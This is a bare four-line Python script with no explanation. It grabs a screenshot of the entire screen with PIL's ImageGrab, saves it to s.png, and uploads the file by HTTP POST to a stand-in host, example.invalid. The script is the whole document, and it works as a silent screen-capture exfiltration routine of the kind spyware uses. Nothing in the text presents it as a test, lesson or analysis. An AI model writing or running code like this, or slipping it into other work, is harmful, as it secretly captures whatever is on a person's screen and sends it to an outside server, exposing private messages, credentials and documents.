import requests
from PIL import ImageGrab
ImageGrab.grab().save("s.png")
requests.post("https://example.invalid/", files={"f": open("s.png", "rb")})
